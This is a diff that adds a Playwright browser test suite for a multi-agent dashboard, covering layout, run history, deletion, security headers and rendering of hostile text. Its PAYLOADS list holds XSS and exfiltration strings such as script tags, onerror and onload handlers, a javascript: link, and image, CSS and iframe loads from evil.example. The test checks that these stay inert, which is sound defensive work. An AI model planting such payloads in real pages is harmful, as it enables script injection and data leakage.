@@ -1,0 +1,203 @@
+"""The dashboard in a real browser: the main path, two widths, two colour schemes, hostile text."""
+
+import re
+from urllib.parse import parse_qs, urlparse
+
+import pytest
+from playwright.sync_api import Page, TimeoutError, expect
+
+from swarm.history import History
+from swarm.mission import Mission, Requirement
+from swarm.verdict import CRITERIA, Score, Verdict
+from tests.browser.conftest import Dashboard, keep_picture, look, settled, wait_until
+from tests.made import keep
+from tests.recorded import a_turn, events_of
+
+pytestmark = pytest.mark.browser
+LOOKS = [(1440, "light"), (1440, "dark"), (390, "light"), (390, "dark")]
+PAYLOADS = (
+    "![pixel](http://evil.example/pixel.png?secret=1)",
+    "![ref][x]\n\n[x]: http://evil.example/ref.png",
+    "[click](javascript:alert(1)) <http://evil.example/auto> [id]: <b>",
+    "http://evil.example/bare HTTPS://evil.example www.evil.example a@evil.example xmpp:a@evil.example",
+    "<script>window.hit=1</script><img src=http://evil.example/img.png onerror=window.hit=1>",
+    "<svg onload=window.hit=1></svg><style>@import 'http://evil.example/a.css';</style>",
+    "<iframe src=http://evil.example></iframe><a href='http://evil.example'>link</a>",
+    ":red[red] :material/home: $x^2$ :smile: # heading\n- item | a | b |",
+)
+HOSTILE = " ".join(PAYLOADS)
+
+
+def badge(page: Page, word: str):
+    """The badge with a word; icons are letters as well, so the word is its end."""
+    return page.locator(".stMarkdownBadge", has_text=re.compile(f"{word}$")).first
+
+
+def run_shown(page: Page) -> str:
+    """The run the URL names."""
+    return parse_qs(urlparse(page.url).query)["run"][0]
+
+
+def open_page(page: Page, dashboard: Dashboard, path: str = "/") -> None:
+    page.goto(dashboard.url + path)
+    settled(page)
+
+
+@pytest.mark.parametrize(("width", "scheme"), LOOKS)
+def test_the_pages_of_an_empty_dashboard(dashboard, browser, width, scheme):
+    page = look(browser, width, scheme)
+    for name in ("start", "compose", "run", "history", "models"):
+        open_page(page, dashboard, "/" if name == "start" else f"/{name}")
+        expect(page.get_by_role("heading", level=1)).to_be_visible()
+        expect(page.locator('[data-testid="stException"]')).to_have_count(0)
+        assert page.evaluate("document.documentElement.scrollWidth") <= width
+        keep_picture(page, f"empty-{name}-{width}-{scheme}")
+
+
+def test_one_button_and_a_team_organizes_itself(dashboard, browser):
+    page = look(browser)
+    open_page(page, dashboard)
+    page.get_by_role("button", name="Watch a team organize itself").click()
+    expect(badge(page, "Running")).to_be_visible()
+    expect(badge(page, "SIMULATED")).to_be_visible()
+    expect(page.get_by_text("thinking…").first).to_be_visible()
+    keep_picture(page, "demo-running-1440-light")
+    expect(badge(page, "Finished")).to_be_visible(timeout=90_000)
+    expect(page.locator(".js-plotly-plot .textpoint").first).to_be_visible()
+    for width, scheme in LOOKS:
+        other = look(browser, width, scheme)
+        open_page(other, dashboard, f"/run?run={run_shown(page)}")
+        expect(other.locator(".js-plotly-plot .textpoint").first).to_be_visible()
+        keep_picture(other, f"demo-finished-{width}-{scheme}")
+        open_page(other, dashboard)
+        expect(other.locator(".js-plotly-plot .textpoint").first).to_be_visible()
+        keep_picture(other, f"start-{width}-{scheme}")
+        other.context.close()
+
+
+def test_the_clock_ticks_while_a_run_is_running_and_the_page_falls_silent_after(dashboard, browser):
+    page = look(browser)
+    open_page(page, dashboard, "/compose?agents=3")
+    page.get_by_text("Seed, pace and organization").click()
+    page.get_by_text("As real models").click()
+    settled(page)
+    page.get_by_role("button", name="Run", exact=True).click()
+    expect(badge(page, "Running")).to_be_visible()
+    clock = page.locator('[data-testid="stMetricValue"]').last
+    for _second in range(3):
+        before = clock.inner_text()
+        expect(clock).not_to_have_text(before, timeout=1_500)
+    expect(badge(page, "Finished")).to_be_visible(timeout=60_000)
+    settled(page)
+    app = page.locator('[data-testid="stApp"]')
+    expect(app).not_to_have_attribute("data-test-script-state", "running", timeout=2_000)
+    with pytest.raises(TimeoutError):
+        page.locator('[data-testid="stApp"][data-test-script-state="running"]').wait_for(timeout=2_500)
+
+
+def test_compose_run_history_open(dashboard, browser):
+    page = look(browser)
+    open_page(page, dashboard, "/compose?mission=sepsis-alert&protocol=coordinator&agents=4")
+    expect(page.get_by_text("--mission sepsis-alert")).to_be_visible()
+    keep_picture(page, "compose-1440-light")
+    page.get_by_role("button", name="Run", exact=True).dblclick()
+    expect(badge(page, "Finished")).to_be_visible(timeout=60_000)
+    run_id = run_shown(page)
+    assert [row.run_id for row in History(dashboard.settings).runs()] == [run_id]
+    page.get_by_role("link", name="History").click()
+    expect(page.get_by_role("heading", name="History")).to_be_visible()
+    settled(page)
+    page.get_by_role("combobox", name="Or choose a run here").click()
+    page.get_by_role("option").first.click()
+    keep_picture(page, "history-1440-light")
+    page.get_by_test_id("stBaseButton-primary").click()
+    page.wait_for_url(f"**/run?run={run_id}")
+    expect(badge(page, "Finished")).to_be_visible()
+
+
+def test_a_click_on_an_agent_shows_its_turns(dashboard, browser):
+    keep(dashboard.settings, events_of([a_turn(n, text=f"Work of {n}.") for n in range(1, 5)]))
+    page = look(browser)
+    open_page(page, dashboard, "/run?run=20261122-120000-abc123")
+    expect(page.get_by_text("Work of 4.")).to_be_visible()
+    page.locator(".js-plotly-plot .points path.point").filter(visible=True).nth(2).click(force=True)
+    expect(page.get_by_text("Work of 3.")).to_be_visible()
+    expect(page.get_by_text("Work of 4.")).to_have_count(0)
+
+
+def test_a_run_is_deleted_after_two_clicks(dashboard, browser):
+    keep(dashboard.settings, events_of([a_turn(1)]))
+    page = look(browser)
+    open_page(page, dashboard, "/history")
+    page.get_by_role("combobox", name="Or choose a run here").click()
+    page.get_by_role("option").first.click()
+    page.get_by_role("button", name="Delete").click()
+    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
+    expect(page.get_by_text("No run yet.")).to_be_visible()
+    assert not History(dashboard.settings).count()
+
+
+def test_hostile_text_stays_text(dashboard, browser):
+    mission = Mission("own", HOSTILE[:200], HOSTILE, (HOSTILE,), (Requirement(HOSTILE),))
+    turns = [
+        a_turn(1, role=HOSTILE, text=HOSTILE, reason=HOSTILE, notes=(HOSTILE,)),
+        a_turn(2, "abstain", reason=HOSTILE),
+    ]
+    judged = Verdict("sim/judge", tuple(Score(name, 3, HOSTILE) for name in CRITERIA))
+    keep(dashboard.settings, events_of(turns, judged=judged, spec={"warnings": (HOSTILE,)}, mission=mission))
+    page = look(browser)
+    outside: list[str] = []
+    page.on("request", lambda request: outside.append(request.url) if "evil" in request.url else None)
+    open_page(page, dashboard)
+    open_page(page, dashboard, "/history")
+    page.get_by_role("combobox", name="Or choose a run here").click()
+    page.get_by_role("option").first.click()
+    settled(page)
+    assert_harmless(page)
+    open_page(page, dashboard, "/run?run=20261122-120000-abc123")
+    for view in ("Transcript", "Deliverable", "Verdict", "Tokens and cost", "Recipe"):
+        page.get_by_role("tab", name=view).click()
+        settled(page)
+        assert_harmless(page)
+    keep_picture(page, "hostile-1440-light")
+    open_page(page, dashboard, "/compose")
+    page.get_by_text("Your own words").click()
+    page.get_by_label("Goal").fill(HOSTILE)
+    page.get_by_label("Goal").press("Control+Enter")
+    settled(page)
+    assert_harmless(page)
+    assert outside == []
+
+
+def assert_harmless(page: Page) -> None:
+    """Nothing of the payloads became part of the page but as text."""
+    assert page.evaluate("typeof window.hit") == "undefined"
+    found = page.locator(
+        'a[href*="evil"], img[src*="evil"], iframe[src*="evil"], [href^="javascript"], .katex'
+    )
+    assert found.evaluate_all("all => all.map(it => it.outerHTML)") == []
+
+
+def test_headers_keep_the_browser_on_this_machine(dashboard, browser):
+    page = look(browser)
+    reply = page.goto(dashboard.url)
+    assert reply is not None
+    assert "default-src 'self'" in reply.headers["content-security-policy"]
+    assert reply.headers["x-content-type-options"] == "nosniff"
+    assert reply.headers["referrer-policy"] == "no-referrer"
+
+
+def test_a_restarted_page_finds_the_run_again(dashboard, browser):
+    page = look(browser)
+    open_page(page, dashboard, "/compose?agents=2")
+    page.get_by_text("Seed, pace and organization").click()
+    page.get_by_text("As real models").click()
+    settled(page)
+    page.get_by_role("button", name="Run", exact=True).click()
+    expect(badge(page, "Running")).to_be_visible()
+    run_id = run_shown(page)
+    page.context.close()
+    again = look(browser)
+    open_page(again, dashboard, f"/run?run={run_id}")
+    expect(badge(again, "Finished")).to_be_visible(timeout=60_000)
+    wait_until(lambda: History(dashboard.settings).run(run_id).status == "finished", "the history knows it")
